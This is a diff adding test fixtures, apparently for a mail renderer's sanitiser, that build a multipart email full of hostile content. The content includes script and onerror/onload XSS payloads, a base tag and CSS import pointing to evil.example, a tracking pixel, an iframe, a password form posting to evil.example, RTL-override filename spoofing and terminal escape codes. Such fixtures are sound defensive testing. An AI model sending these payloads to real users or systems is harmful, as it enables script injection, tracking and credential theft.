@@ -31,6 +31,33 @@ export const HOSTILE_ORCPT = [...Buffer.from('"><img src=x onerror=pwned()>')]
   .map((byte) => `+${byte.toString(16).toUpperCase().padStart(2, '0')}`)
   .join('')
 
+/** Parts that run, load and imitate something when a reader of mail renders them, with hostile names. */
+export const HOSTILE_PARTS = Buffer.from(
+  [
+    'From: "</code></pre><script>pwned()</script>" <app@shop.example>',
+    'Subject: =?utf-8?b?PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+4oCu?=',
+    'Content-Type: multipart/mixed; boundary=b',
+    '',
+    '--b',
+    'Content-Type: text/plain; charset=utf-8',
+    '',
+    '</code></pre><img src=x onerror=pwned()>\u202e\u001b[2J',
+    '--b',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<html><head><base href="//evil.example/"><style>@import "//evil.example/x.css";</style></head><body onload="pwned()">',
+    '<img src="http://evil.example/pixel.png"><script>pwned()</script><iframe src="//evil.example"></iframe>',
+    '<form action="//evil.example"><input name=password></form></code></pre></body></html>',
+    '--b',
+    'Content-Type: image/svg+xml; name="<svg onload=pwned()>.svg"',
+    `Content-Disposition: attachment; filename="<svg onload=pwned()>\u202egnp.svg"`,
+    '',
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
+    '--b--',
+    '',
+  ].join('\r\n'),
+)
+
 /** A header of a megabyte, with hostile fields and bytes that are no UTF-8. */
 export const HOSTILE_CONTENT = Buffer.concat([
   Buffer.from(`Subject: </script><script>pwned()</script> \u001b[2J \u202e\r\nMessage-ID: <"><img/src=x/onerror=pwned()>@x>\r\nX-Bytes: `),
